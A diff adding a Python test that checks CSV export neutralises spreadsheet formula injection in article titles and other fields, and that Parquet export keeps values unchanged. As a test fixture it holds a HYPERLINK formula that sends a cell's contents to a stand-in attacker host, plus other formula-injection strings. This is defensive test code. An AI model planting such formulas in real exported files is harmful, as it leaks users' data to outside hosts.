@@ -129,3 +129,17 @@ def test_new_files_are_not_private(analysis: Analysis, tmp_path: Path):
     os.umask(mask)
     [p] = export(analysis, tmp_path / "run.json")
     assert p.stat().st_mode & 0o777 == 0o666 & ~mask
+
+
+def test_csv_cells_never_open_as_spreadsheet_formulas(analysis: Analysis, tmp_path: Path):
+    from dataclasses import replace
+
+    formula = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+    analysis.articles[3] = replace(analysis.articles[3], title=formula, outlet="@SUM(1,1)", byline="-2+3")
+    csv_articles = pd.read_csv(export(analysis, tmp_path / "f.csv")[0])
+    row = csv_articles[csv_articles["id"] == "a4"].iloc[0]
+    assert (row["title"], row["outlet"], row["byline"]) == ("'" + formula, "'@SUM(1,1)", "'-2+3")
+    assert csv_articles.loc[0, "title"] == analysis.articles[0].title  # other text as it was
+    # Parquet keeps the values as they are: no spreadsheet opens it as formulas
+    parquet = pd.read_parquet(export(analysis, tmp_path / "f.parquet")[0])
+    assert parquet[parquet["id"] == "a4"].iloc[0]["title"] == formula
